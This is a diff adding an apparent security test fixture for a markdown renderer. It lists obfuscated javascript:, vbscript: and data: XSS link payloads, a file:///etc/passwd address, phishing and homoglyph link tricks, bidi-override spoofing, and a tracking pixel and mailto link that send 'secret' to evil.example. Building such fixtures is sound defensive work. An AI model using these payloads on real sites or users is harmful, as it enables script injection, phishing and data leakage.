@@ -1,0 +1,72 @@
+import { CALL, each, named } from "./attack";
+
+const ADDRESSES = [
+  `javascript:${CALL}`,
+  `JaVaScRiPt:${CALL}`,
+  `javascript&colon;${CALL}`,
+  `javascript&#58;${CALL}`,
+  `javascript&#x3A;${CALL}`,
+  `&#106;avascript:${CALL}`,
+  `&#x6A&#x61&#x76&#x61script:${CALL}`,
+  `java%73cript:${CALL}`,
+  `\\javascript:${CALL}`,
+  `java&Tab;script:${CALL}`,
+  `java&NewLine;script:${CALL}`,
+  `&#1;javascript:${CALL}`,
+  `\u0001javascript:${CALL}`,
+  `\u00A0javascript:${CALL}`,
+  `java\u200Bscript:${CALL}`,
+  `javascript://example.com/%0A${CALL}`,
+  `vbscript:${CALL}`,
+  `data:text/html,<script>${CALL}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+`,
+  `data:image/svg+xml,<svg onload=${CALL}>`,
+  "blob:https://example.com/a",
+  "file:///etc/passwd",
+  "filesystem:https://example.com/a",
+  "view-source:https://example.com",
+  "about:blank",
+  "intent://example.com#Intent;scheme=https;end",
+  "ws://evil.example",
+  "feed:javascript:attacked()",
+  "/sign-out",
+  "//evil.example",
+  "\\\\evil.example",
+  "?query",
+  "#main",
+  "http:evil.example",
+  "https:\\\\evil.example",
+  "https://user:password@evil.example",
+];
+const inLinks = each("link", ADDRESSES, (address) => `[words](<${address}>)`);
+const inImages = each("image", ADDRESSES.slice(0, 20), (address) => `![words](<${address}>)`);
+const inDefinitions = each("defined", ADDRESSES.slice(0, 20), (address) => `[words][a]\n\n[a]: <${address}>`);
+const inAutolinks = each("autolink", ADDRESSES.slice(0, 20), (address) => `<${address}>`);
+
+const tricks = named("trick", {
+  "names another site": "[https://bank.example](https://evil.example)",
+  "turned around": "[\u202Emoc.knab\u202C](https://evil.example)",
+  "turns the rest of the page": "words \u202E\u202E\u202E\u2067 words",
+  "zero width in a name": "[ba\u200Bnk.example](https://evil.example)",
+  "foreign letters": "[apple.com](https://xn--pple-43d.com)",
+  "foreign letters in the address": "https://\u0430pple.com",
+  "invisible words": "\u{E0041}\u{E0042}\u{E0043} hidden",
+  "hundreds of marks on a letter": `Z${"\u0351".repeat(2_000)}`,
+  "code that runs in another order": "```js\nif (a) { /*\u202E } \u2066 begin */ admin();\n```",
+  "an image in a link": "[![a](https://evil.example/a.png)](https://evil.example)",
+  "a link in a link": "[a [b](https://evil.example/b) c](https://evil.example)",
+  "an image that counts readers": "![](https://evil.example/pixel.gif?said=secret)",
+  "an image by definition": "![a][b]\n\n[b]: https://evil.example/pixel.gif",
+  "an address with line breaks": "[a](https://evil.example/\n/b)",
+  "a mail with a body": "[a](mailto:x@example.com?bcc=evil@evil.example&body=secret)",
+  "a byte order mark": "\uFEFF# words",
+  nulls: "a\0b\0\0c [x](java\0script:attacked())",
+  "half of a pair": "\uD800 a \uDC00 [\uD83D](https://example.com/\uD83D)",
+  "a formula that links": `$$\\href{javascript:${CALL}}{x}$$`,
+  "a formula that loads": "$$\\includegraphics{https://evil.example/a.png}$$",
+  "a formula that styles": "$$\\htmlStyle{position:fixed}{x} \\htmlId{main}{y} \\class{fixed}{z}$$",
+  "a formula without an end": "$$\\def\\a{\\a\\a}\\a$$",
+  "a formula as wide as the world": "$$\\rule{99999em}{99999em}\\kern{99999em}$$",
+});
+
+export const LINKS = [...inLinks, ...inImages, ...inDefinitions, ...inAutolinks, ...tricks];
